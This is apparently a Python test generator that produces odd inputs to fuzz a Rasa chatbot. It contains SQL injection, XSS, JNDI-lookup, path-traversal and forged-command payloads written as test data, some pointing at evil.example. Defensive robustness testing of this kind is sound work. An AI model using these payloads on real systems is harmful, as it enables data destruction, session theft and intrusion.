"""Odd user inputs, generated deterministically: text in every script, 10,000-character messages,
control characters, SQL/HTML/Markdown injection, typed Rasa commands, empty and whitespace-only
messages, lone surrogates, and all of these mixed into real questions.

`generate(n)` is a prefix of `generate(10_000)` (item i depends only on the seed and i), so a short
run checks the first inputs of the full one, and a failing input is found again by its index.

Usage: python -m tests.oddinputs [N]  — prints the first N inputs (default 40), one repr per line.
"""

from __future__ import annotations

import random
import re
import sys
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import yaml

ROOT = Path(__file__).resolve().parent.parent
SEED = 20261121
LONG = 10_000  # characters: what bot/guard.py lets through to the assistant

# (block, first, last): code points are drawn from these and kept when assigned (not Cn/Cs).
BLOCKS = [
    ("Latin-1 Supplement", 0x00A1, 0x00FF),
    ("Latin Extended-A", 0x0100, 0x017F),
    ("Latin Extended-B", 0x0180, 0x024F),
    ("IPA Extensions", 0x0250, 0x02AF),
    ("Greek", 0x0370, 0x03FF),
    ("Cyrillic", 0x0400, 0x04FF),
    ("Armenian", 0x0531, 0x058F),
    ("Hebrew", 0x05D0, 0x05EA),
    ("Arabic", 0x0620, 0x064A),
    ("Syriac", 0x0710, 0x072F),
    ("Thaana", 0x0780, 0x07B1),
    ("NKo", 0x07C0, 0x07FA),
    ("Devanagari", 0x0900, 0x097F),
    ("Bengali", 0x0980, 0x09FF),
    ("Tamil", 0x0B80, 0x0BFF),
    ("Thai", 0x0E01, 0x0E5B),
    ("Lao", 0x0E81, 0x0EDF),
    ("Tibetan", 0x0F00, 0x0FDA),
    ("Myanmar", 0x1000, 0x109F),
    ("Georgian", 0x10A0, 0x10FF),
    ("Hangul Jamo", 0x1100, 0x11FF),
    ("Ethiopic", 0x1200, 0x137C),
    ("Cherokee", 0x13A0, 0x13F5),
    ("Canadian Syllabics", 0x1400, 0x167F),
    ("Ogham", 0x1680, 0x169C),
    ("Runic", 0x16A0, 0x16F8),
    ("Khmer", 0x1780, 0x17F9),
    ("Mongolian", 0x1820, 0x1878),
    ("Latin Extended Additional", 0x1E00, 0x1EFF),
    ("Greek Extended", 0x1F00, 0x1FFE),
    ("Arrows", 0x2190, 0x21FF),
    ("Mathematical Operators", 0x2200, 0x22FF),
    ("Box Drawing", 0x2500, 0x257F),
    ("Braille", 0x2800, 0x28FF),
    ("CJK Symbols", 0x3000, 0x303F),
    ("Hiragana", 0x3041, 0x309F),
    ("Katakana", 0x30A0, 0x30FF),
    ("Bopomofo", 0x3105, 0x312F),
    ("CJK Unified Ideographs", 0x4E00, 0x9FFF),
    ("Yi", 0xA000, 0xA48C),
    ("Hangul Syllables", 0xAC00, 0xD7A3),
    ("Private Use", 0xE000, 0xF8FF),
    ("CJK Compatibility Ideographs", 0xF900, 0xFAD9),
    ("Arabic Presentation Forms", 0xFB50, 0xFDFF),
    ("Halfwidth and Fullwidth Forms", 0xFF01, 0xFFEE),
    ("Linear B", 0x10000, 0x100FA),
    ("Gothic", 0x10330, 0x1034A),
    ("Cuneiform", 0x12000, 0x12399),
    ("Egyptian Hieroglyphs", 0x13000, 0x1342E),
    ("Musical Symbols", 0x1D100, 0x1D1EA),
    ("Mathematical Alphanumerics", 0x1D400, 0x1D7FF),
    ("Mahjong and Playing Cards", 0x1F000, 0x1F0F5),
    ("Emoji", 0x1F300, 0x1F64F),
    ("Transport and Map", 0x1F680, 0x1F6FF),
    ("Supplemental Symbols", 0x1F900, 0x1F9FF),
    ("CJK Extension B", 0x20000, 0x2A6DF),
    ("CJK Extension G", 0x30000, 0x3134A),
]
COMBINING = [(0x0300, 0x036F), (0x1AB0, 0x1ACE), (0x1DC0, 0x1DFF), (0x20D0, 0x20F0), (0xFE20, 0xFE2F)]
BIDI = ["\u200e", "\u200f", "\u061c", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2069"]
CONTROLS = (
    [chr(c) for c in range(0x00, 0x20)]
    + ["\x7f"]
    + [chr(c) for c in range(0x80, 0xA0)]
    + ["\u2028", "\u2029", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\ufff9", "\ufffb", "\ufffc", "\ufffd"]
    + ["\ufffe", "\uffff", "\U0010ffff", "\U000e0001", "\U000e007f"]
    + BIDI
)
WHITESPACE = [" ", "\t", "\n", "\r", "\r\n", "\x0b", "\x0c", "\u00a0", "\u1680", "\u2003", "\u2009", "\u3000", "\u202f"]
EMOJI = [
    "👨\u200d👩\u200d👧\u200d👦",
    "🏳️\u200d🌈",
    "🧑🏽\u200d💻",
    "👩🏿\u200d🔬",
    "🧬",
    "🏭",
    "🤝",
    "👍🏻",
    "👋🏾",
    "🇯🇵",
    "🇫🇷",
    "🇩🇪",
    "🇪🇺",
    "🇯",  # a lone regional indicator
    "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",  # Scotland (tag sequence)
    "1️⃣",
    "#️⃣",
    "❤️\u200d🔥",
    "🫶🏼",
    "\U0001fae8",
]
SQL = [
    "'; DROP TABLE organisations; --",
    '" OR 1=1 --',
    "' OR '1'='1",
    "1; DELETE FROM partnerships WHERE 1=1; --",
    "Robert'); DROP TABLE organisation_names;--",
    "%' UNION SELECT name, NULL FROM sqlite_master --",
    "'; UPDATE organisations SET name='pwned'; --",
    "\\'; TRUNCATE sectors CASCADE; --",
    "1' AND SLEEP(5) --",
    "'||pg_sleep(5)||'",
]
HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "<svg onload=alert(1)>",
    "</b><script>alert(document.cookie)</script>",
    "<iframe src=//evil.example></iframe>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<b>bold</b> <i>it",
    "<tg-spoiler>x</tg-spoiler><pre>",
    '"><script>alert(1)</script>',
    "&#60;script&#62;",
    "&amp;&&;&#xZZ;",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "**",
    "**bold** *it* __u__ ~~s~~",
    "`code`",
    "```\nfenced\n```",
    "[Osaka](http://evil.example/phish)",
    "![img](http://evil.example/x.png)",
    "# Heading\n> quote\n- item",
    "*" * 50,
    "[a][b] [b]: javascript:alert(1)",
    "<https://evil.example>",
    "\\*not bold\\*",
]
TEMPLATES = [
    "{results}",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n",
    "{0.__class__}",
    "{value}{sources}",
    "../../../../etc/passwd",
    "null",
    "undefined",
    "NaN",
    "true",
    "[]",
    '{"sender": "x", "message": "y"}',
    "\\u0000\\ud800",
]
# Typed Rasa commands, with the intent each would trigger if it were let through (bot/guard.py).
PAYLOADS = [
    ("/human_handoff", "human_handoff"),
    ('/intent{"entity":"x"}', "intent"),
    ("/restart", "restart"),
    ("/session_start", "session_start"),
    ('/request_introduction{"org_name": "Osaka Bio Headquarters"}', "request_introduction"),
    ("/human_handoff~k=00000000000000000000", "human_handoff"),  # a forged signature
    ("/human_handoff~k=", "human_handoff"),
    ("  /human_handoff  ", "human_handoff"),
    ("\n/human_handoff", "human_handoff"),
    ('/ask_programme{"programme": "Regional Industry Tie-Up Programme (RIT)"}', "ask_programme"),
    ('/inform{"sector": "\'; DROP TABLE organisations; --"}', "inform"),
    ("/greet", "greet"),
    ("/affirm", "affirm"),
    ("/nlu_fallback", "nlu_fallback"),
    ("/action_handoff", "action_handoff"),
    ("/show_more", "show_more"),
    ('/search_organisations{"sector": "biotech", "place": "Osaka"}', "search_organisations"),
    ("/", ""),
    ("//", ""),
    ("/human_handoff/human_handoff", "human_handoff"),
]
FALLBACK_QUESTIONS = [
    "find biotech clusters in Osaka",
    "find regenerative medicine clusters in Osaka",
    "who does Osaka Bio Headquarters partner with?",
    "we are a French cosmetics SME, who could we work with in Japan?",
    "can my cluster apply to JETRO's RIT programme?",
    "any biotech events in japan?",
    "hello",
]
MATH_STYLES = ["BOLD", "ITALIC", "BOLD ITALIC", "SCRIPT", "FRAKTUR", "DOUBLE-STRUCK", "SANS-SERIF", "MONOSPACE"]
HOMOGLYPHS = {"a": "а", "e": "е", "o": "о", "p": "р", "c": "с", "x": "х", "i": "і", "s": "ѕ", "y": "у"}


@dataclass(frozen=True)
class OddInput:
    """One generated input: its index, category, text, and — for typed commands — the intent
    the command names (which the message must never trigger)."""

    index: int
    kind: str
    text: str
    command_intent: str | None = None

    @property
    def has_lone_surrogate(self) -> bool:
        return any(0xD800 <= ord(ch) <= 0xDFFF for ch in self.text)


@cache
def questions() -> tuple[str, ...]:
    """Real questions: the held-out NLU examples (entity markup removed) and a few classics."""
    out = list(FALLBACK_QUESTIONS)
    path = ROOT / "tests" / "nlu" / "held_out.yml"
    if path.exists():
        data = yaml.safe_load(path.read_text(encoding="utf-8")) or {}
        for block in data.get("nlu", []):
            for line in str(block.get("examples", "")).splitlines():
                line = line.strip().removeprefix("- ").strip()
                line = re.sub(r"\[([^\]]+)\](\{[^}]*\}|\([^)]*\))", r"\1", line)
                if line:
                    out.append(line)
    return tuple(out)


def _char(rng: random.Random, first: int, last: int) -> str:
    for _ in range(20):
        ch = chr(rng.randint(first, last))
        if unicodedata.category(ch) not in {"Cn", "Cs"}:
            return ch
    return chr(first)


def script_text(rng: random.Random, length: int | None = None) -> str:
    """Words of code points from one to three blocks, separated by spaces."""
    blocks = rng.sample(BLOCKS, rng.randint(1, 3))
    length = length or rng.randint(1, 80)
    out: list[str] = []
    while len(out) < length:
        _, first, last = rng.choice(blocks)
        out.extend(_char(rng, first, last) for _ in range(rng.randint(1, 8)))
        out.append(" ")
    return "".join(out)[:length]


def zalgo(text: str, rng: random.Random, most: int = 12) -> str:
    return "".join(ch + "".join(_char(rng, *rng.choice(COMBINING)) for _ in range(rng.randint(0, most))) for ch in text)


def math_letters(text: str, rng: random.Random) -> str:
    style = rng.choice(MATH_STYLES)

    def one(ch: str) -> str:
        if not ch.isascii() or not ch.isalpha():
            return ch
        case = "CAPITAL" if ch.isupper() else "SMALL"
        try:
            return unicodedata.lookup(f"MATHEMATICAL {style} {case} {ch.upper()}")
        except KeyError:  # the holes of the block (e.g. script small e is U+212F)
            return ch

    return "".join(one(ch) for ch in text)


def fullwidth(text: str) -> str:
    return "".join("\u3000" if ch == " " else chr(ord(ch) + 0xFEE0) if "!" <= ch <= "~" else ch for ch in text)


def homoglyphs(text: str) -> str:
    return "".join(HOMOGLYPHS.get(ch, ch) for ch in text)


def lone_surrogate(rng: random.Random) -> str:
    return chr(rng.choice([0xD800, 0xDBFF, 0xDC00, 0xDFFF, rng.randint(0xD800, 0xDFFF), 0xD83D]))


def sprinkle(text: str, pieces: list[str], rng: random.Random) -> str:
    """`text` with `pieces` inserted at random places."""
    for piece in pieces:
        at = rng.randint(0, len(text))
        text = text[:at] + piece + text[at:]
    return text


def fragment(rng: random.Random) -> str:
    """One odd fragment of any kind (for mixing into questions)."""
    pick = rng.randrange(9)
    return [
        lambda: script_text(rng, rng.randint(1, 20)),
        lambda: rng.choice(EMOJI),
        lambda: rng.choice(CONTROLS),
        lambda: rng.choice(SQL),
        lambda: rng.choice(HTML),
        lambda: rng.choice(MARKDOWN),
        lambda: rng.choice(TEMPLATES),
        lambda: rng.choice(BIDI),
        lambda: lone_surrogate(rng),
    ][pick]()


def long_text(rng: random.Random) -> str:
    """Messages at and around the length limits: 10,000 characters (bot/guard.py), 4,096
    (Telegram), beyond both; spaced, unbroken, astral, many tokens."""
    q = rng.choice(questions())
    size = rng.choice([LONG, LONG, LONG, LONG + 1, 4096, 4097, 20_000])
    how = rng.randrange(7)
    if how == 0:
        return ((q + " ") * (size // (len(q) + 1) + 1))[:size]
    if how == 1:
        return "a" * size
    if how == 2:
        return script_text(rng, size)
    if how == 3:
        return ("x " * size)[:size]
    if how == 4:
        return " " * (size - len(q)) + q
    if how == 5:
        return "".join(rng.choice(EMOJI) for _ in range(size))[:size]
    return q + " " + "".join(_char(rng, 0x4E00, 0x9FFF) for _ in range(size - len(q) - 1))


def _kinds() -> list[tuple[str, Callable[[random.Random], tuple[str, str | None]]]]:
    def q(rng: random.Random) -> str:
        return rng.choice(questions())

    def payload(rng: random.Random) -> tuple[str, str | None]:
        text, intent = rng.choice(PAYLOADS)
        return text, intent or None

    return [
        ("question", lambda r: (q(r), None)),
        ("script", lambda r: (script_text(r), None)),
        ("script+question", lambda r: (sprinkle(q(r), [script_text(r, r.randint(2, 30))], r), None)),
        ("rtl", lambda r: (sprinkle(q(r) + " " + script_text(r, 20), [r.choice(BIDI) for _ in range(3)], r), None)),
        ("zalgo", lambda r: (zalgo(q(r), r), None)),
        ("math-letters", lambda r: (math_letters(q(r), r), None)),
        ("fullwidth/homoglyph", lambda r: ((fullwidth if r.random() < 0.5 else homoglyphs)(q(r)), None)),
        ("emoji", lambda r: (sprinkle(q(r), [r.choice(EMOJI) for _ in range(r.randint(1, 4))], r), None)),
        ("emoji-only", lambda r: ("".join(r.choice(EMOJI) for _ in range(r.randint(1, 6))), None)),
        ("control", lambda r: (sprinkle(q(r), [r.choice(CONTROLS) for _ in range(r.randint(1, 5))], r), None)),
        ("control-only", lambda r: ("".join(r.choice(CONTROLS) for _ in range(r.randint(1, 8))), None)),
        ("sql", lambda r: (r.choice([r.choice(SQL), f"find {r.choice(SQL)} clusters in Osaka"]), None)),
        ("html", lambda r: (r.choice([r.choice(HTML), sprinkle(q(r), [r.choice(HTML)], r)]), None)),
        ("markdown", lambda r: (r.choice([r.choice(MARKDOWN), sprinkle(q(r), [r.choice(MARKDOWN)], r)]), None)),
        ("template", lambda r: (r.choice([r.choice(TEMPLATES), f"biotech clusters in {r.choice(TEMPLATES)}"]), None)),
        ("payload", payload),
        ("payload+text", lambda r: (lambda t, i: (f"{t} {q(r)}", i))(*payload(r))),
        ("empty/whitespace", lambda r: ("".join(r.choice(WHITESPACE) for _ in range(r.randrange(6))), None)),
        ("lone-surrogate", lambda r: (sprinkle(q(r), [lone_surrogate(r) for _ in range(r.randint(1, 3))], r), None)),
        ("combo", lambda r: (sprinkle(q(r), [fragment(r) for _ in range(r.randint(1, 4))], r), None)),
        ("long", lambda r: (long_text(r), None)),
    ]


KINDS = [name for name, _ in _kinds()]


def generate(n: int, seed: int = SEED) -> list[OddInput]:
    """The first `n` inputs: the kinds in turn (every kind appears once in any 21 consecutive
    inputs), each drawn from a generator seeded by (seed, index)."""
    kinds = _kinds()
    out = []
    for i in range(n):
        rng = random.Random(f"{seed}:{i}")
        name, make = kinds[i % len(kinds)]
        text, intent = make(rng)
        out.append(OddInput(i, name, text, intent))
    return out


def main(argv: list[str]) -> int:
    for item in generate(int(argv[0]) if argv else 40):
        text = item.text if len(item.text) <= 120 else f"{item.text[:117]}… ({len(item.text):,} chars)"
        print(f"{item.index:5d} {item.kind:<20} {text!r}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
